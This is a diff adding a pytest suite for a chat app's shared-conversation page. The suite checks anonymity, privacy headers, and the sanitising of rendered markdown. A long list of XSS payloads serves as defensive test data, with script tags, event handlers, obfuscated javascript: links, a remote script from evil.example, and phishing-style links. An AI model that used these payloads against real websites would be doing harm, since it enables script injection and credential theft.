@@ -1,0 +1,287 @@
+"""What a reader of a shared page gets: the copied words, and nothing that runs or tells on anybody."""
+
+from __future__ import annotations
+
+import re
+from html.parser import HTMLParser
+
+import pytest
+from django.utils import timezone
+
+from chat.conversations.models import Message, MessageStatus, ModelCard, Role
+from chat.sharing import services
+from chat.sharing.render import ATTRIBUTES, MARKDOWN_CHARS, TAGS, prompt_html, reply_html
+from tests.chat.conversations.building import say, talk
+
+pytestmark = pytest.mark.django_db
+
+REMOVED = "This message was removed by a moderator."
+
+
+def shared(owner, *texts, **choices):
+    conversation = talk(owner, *texts, title=choices.pop("title", "A talk"))
+    return services.create_share(conversation=conversation, owner=owner, **choices)
+
+
+def opened(cast, share, who="anonymous"):
+    return cast.client(who).get(share.get_absolute_url())
+
+
+# --- What is on it ----------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("who", ["alice", "bob", "stranger", "staff", "anonymous"])
+def test_whoever_has_the_address_reads_it(cast, who):
+    share = shared(cast.alice, "What is *a* fish?", "A **fish** swims.", title="About <fish>")
+    answer = opened(cast, share, who)
+    page = answer.content.decode()
+    assert answer.status_code == 200
+    assert "About &lt;fish&gt;" in page
+    assert "What is *a* fish?" in page
+    assert "A <strong>fish</strong> swims." in page
+    assert [m["role"] for m in answer.context["messages"]] == ["user", "assistant"]
+
+
+def test_the_owner_is_not_named(cast):
+    page = opened(cast, shared(cast.alice, "Hi", "Hello")).content.decode()
+    for secret in (cast.alice.email, cast.alice.display_name, str(cast.alice.pk), "alice"):
+        assert secret not in page
+
+
+def test_headers_keep_it_unlisted(cast):
+    answer = opened(cast, shared(cast.alice, "Hi", "Hello"))
+    assert answer["X-Robots-Tag"] == "noindex, nofollow, noarchive"
+    assert answer["Referrer-Policy"] == "no-referrer"
+    assert answer["Cache-Control"] == "private, no-store"
+    assert "script-src" in answer["Content-Security-Policy"]
+    assert re.search(r'<meta name="?robots"? content="[^"]*noindex', answer.content.decode())
+
+
+@pytest.mark.parametrize("is_demo", [True, False])
+def test_a_demo_model_is_named_as_one(cast, is_demo):
+    ModelCard.objects.update(is_demo=is_demo, name="Small Model")
+    answer = opened(cast, shared(cast.alice, "Hi", "Hello"))
+    assert (answer.context["is_demo"], answer.context["model_name"]) == (is_demo, "Small Model")
+    assert ("demo model" in answer.content.decode()) == is_demo
+
+
+def test_only_the_open_branch_is_copied(cast):
+    conversation = talk(cast.alice)
+    first = say(conversation, "Which colour?", "Red.", "Sure?", "Yes, red.")
+    say(conversation, "Blue.", under=first[0])
+    page = opened(cast, services.create_share(conversation=conversation, owner=cast.alice)).content.decode()
+    assert "Blue." in page
+    assert "Red." not in page
+    assert "Sure?" not in page
+
+
+def test_what_is_written_later_is_not_on_it(cast):
+    share = shared(cast.alice, "Hi", "Hello")
+    conversation = share.conversation
+    say(conversation, "A later secret", under=conversation.messages.get(text="Hello"))
+    Message.objects.filter(text="Hello").update(text="Changed")
+    page = opened(cast, share).content.decode()
+    assert "A later secret" not in page
+    assert "Hello" in page
+
+
+def test_hidden_system_and_empty_messages_are_left_out(cast):
+    conversation = talk(cast.alice)
+    system = Message.objects.create(conversation=conversation, role=Role.SYSTEM, text="Be a pirate")
+    asked = Message.objects.create(conversation=conversation, parent=system, role=Role.USER, text="Hi")
+    hidden = say(conversation, "Hidden words", under=asked)[0]
+    Message.objects.filter(pk=hidden.pk).update(hidden_at=timezone.now())
+    failed = say(conversation, "Again?", "", under=hidden)[-1]
+    Message.objects.filter(pk=failed.pk).update(status=MessageStatus.FAILED)
+    share = services.create_share(conversation=conversation, owner=cast.alice)
+    assert [each["text"] for each in share.snapshot] == ["Hi", "Again?"]
+
+
+def test_a_message_hidden_after_the_copy_is_replaced(cast):
+    share = shared(cast.alice, "Hi", "Hello there")
+    assert REMOVED not in opened(cast, share).content.decode()
+    Message.objects.filter(text="Hello there").update(hidden_at=timezone.now())
+    page = opened(cast, share).content.decode()
+    assert REMOVED in page
+    assert "Hello there" not in page
+
+
+def test_opening_costs_the_same_however_long_it_is(cast, django_assert_num_queries):
+    from django.db import connection
+    from django.test.utils import CaptureQueriesContext
+
+    counts = []
+    for length in (2, 300):
+        share = shared(cast.alice, *(f"words {n}" for n in range(length)))
+        with CaptureQueriesContext(connection) as captured:
+            opened(cast, share)
+        counts.append(len(captured))
+    assert counts[0] == counts[1] <= 4
+
+
+# --- What is not: markup that acts ------------------------------------------------------------------------
+
+EVIL = [
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)><script>alert(1)</script></svg>",
+    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example'</style>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<p style='position:fixed;inset:0' class=x id=y data-action=z>x</p>",
+    "<!-- comment --><!--><script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?php alert(1) ?>",
+    "</article></main><script>alert(1)</script>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x](\\x6aavascript:alert(1))",
+    "[x](vbscript:x) [y](file:///etc/passwd) [z](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
+    "[x](data:image/png;base64,iVBORw0KGgo=)",
+    "[x](/accounts/logout/) [y](?next=//evil) [z](#top) [w](//evil.example)",
+    "[x](<javascript:alert(1)>)",
+    "[x][1]\n\n[1]: javascript:alert(1)",
+    '[x](https://example.org "onmouseover=alert(1)")',
+    '[x](https://example.org/"onmouseover="alert(1))',
+    "<javascript:alert(1)>",
+    "<https://example.org/'\"onclick=alert(1)>",
+    "![x](javascript:alert(1))",
+    "![x](https://evil.example/pixel.png)",
+    '![x" onerror="alert(1)](https://evil.example/p.png "t" onload="y)',
+    "![<img src=x onerror=alert(1)>](https://evil.example/p.png)",
+    "[![x](https://evil.example/p.png)](javascript:alert(1))",
+    "```html\n<script>alert(1)</script>\n```",
+    '```"><script>alert(1)</script>\nx\n```',
+    "`<img src=x onerror=alert(1)>`",
+    "| <script>alert(1)</script> | b |\n|:-:|---|\n| <img src=x onerror=alert(1)> | `</td>` |",
+    "# <svg/onload=alert(1)>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "\x00<script>alert(1)</script>",
+    "<scr\x00ipt>alert(1)</scr\x00ipt>",
+]
+
+
+class Elements(HTMLParser):
+    """Every element and attribute that a browser would see."""
+
+    def __init__(self, html):
+        super().__init__(convert_charrefs=True)
+        self.found, self.comments = [], []
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag, attributes):
+        self.found.append((tag, dict(attributes)))
+
+    def handle_comment(self, data):
+        self.comments.append(data)
+
+
+def harmless(html):
+    page = Elements(html)
+    assert not page.comments
+    for tag, attributes in page.found:
+        assert tag in TAGS
+        assert attributes.pop("class", "host") == "host"
+        assert set(attributes) <= ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
+        if "href" in attributes:
+            assert re.match(r"(https?://|mailto:)", attributes["href"], re.I), attributes
+        if tag == "a":
+            assert {"noopener", "noreferrer", "nofollow"} <= set(attributes["rel"].split())
+    return True
+
+
+@pytest.mark.parametrize("evil", EVIL)
+def test_nothing_in_a_message_acts(evil):
+    assert harmless(reply_html(evil))
+    assert harmless(prompt_html(evil))
+
+
+def test_nothing_on_the_page_acts(cast):
+    """The whole page has the same elements as with harmless words, and its title is words, too."""
+    evil = [text.replace("\x00", "") for text in EVIL for _role in (Role.USER, Role.ASSISTANT)]
+    page = opened(cast, shared(cast.alice, *evil, title="</title><script>alert(1)</script>")).content.decode()
+    quiet = opened(cast, shared(cast.alice, *("words" for _ in evil), title="words")).content.decode()
+
+    def count(html):
+        return sorted(tag for tag, _ in Elements(html).found if tag not in TAGS)
+
+    assert count(page) == count(quiet)
+    for _, attributes in Elements(page).found:
+        assert not [name for name in attributes if name.startswith("on") or name in ("style", "srcdoc")]
+
+
+def test_images_become_links(cast):
+    html = reply_html("![a cat](https://example.org/cat.png) and ![](https://example.org/dog.png)")
+    assert '>Image: a cat</a> <span class="host">(example.org)</span>' in html
+    assert 'href="https://example.org/cat.png"' in html
+    assert ">Image: no description</a>" in html
+    assert "<img" not in html
+
+
+@pytest.mark.parametrize(
+    ("markdown", "host"),
+    [
+        ("[my bank](https://evil.example/login)", "evil.example"),
+        ("[https://bank.example](https://evil.example/)", "evil.example"),
+        ("[https://bank.example](https://bank.example@evil.example/)", "evil.example"),
+        ("[bank.example](https://bank.example%5c@evil.example/)", "evil.example"),
+        ("<https://bank.example@evil.example/>", "evil.example"),
+        ("[x](https://evil.example:8443/)", "evil.example:8443"),
+        ("[write](mailto:eve@evil.example)", "eve@evil.example"),
+        ("[![bank](https://a.example/x.png)](https://evil.example)", "evil.example"),
+        ("[*very* `nice`](https://evil.example)", "evil.example"),
+        ("[evil.example](https://evil.example/page)", ""),
+        ("[https://evil.example/a](https://evil.example/b)", ""),
+        ("<https://evil.example/a>", ""),
+        ("<eve@evil.example>", ""),
+    ],
+)
+def test_a_link_says_where_it_leads(markdown, host):
+    html = reply_html(markdown)
+    assert re.findall(r'<span class="host">\((.*?)\)</span>', html) == ([host] if host else [])
+    assert html.count("<a ") == 1
+
+
+@pytest.mark.parametrize(
+    "address", ["/accounts/logout/", "//a.example", "#x", "?x", "javascript:x", "https:"]
+)
+def test_a_link_that_leads_nowhere_outside_is_its_words(address):
+    assert reply_html(f"[words]({address})") == "<p>words</p>\n"
+
+
+def test_markdown_is_kept():
+    html = reply_html(
+        "# Title\n\n1. one\n2. ~~two~~\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```py\nx < 1\n```\n"
+    )
+    for piece in ("<h2>Title</h2>", "<li>one</li>", "<s>two</s>", "<td>1</td>", "x &lt; 1"):
+        assert piece in html
+
+
+def test_a_very_long_reply_is_shown_as_typed():
+    assert reply_html("*a* " * MARKDOWN_CHARS).startswith("<p>*a* *a* ")
+
+
+def test_what_a_person_typed_is_not_markdown():
+    assert prompt_html("# a *b*\n  c < d\n\ne") == "<p># a *b*<br>  c &lt; d</p><p>e</p>"
+
+
+@pytest.mark.parametrize("piece", ["[", "*a ", "`", "![](", "> ", "<", "_a*", "|a", "[a](", "**a _b ", "\\["])
+def test_no_text_makes_it_slow(piece):
+    """The longest text that is still read as markdown."""
+    import time
+
+    started = time.monotonic()
+    reply_html(piece * (MARKDOWN_CHARS // len(piece)))
+    assert time.monotonic() - started < 5
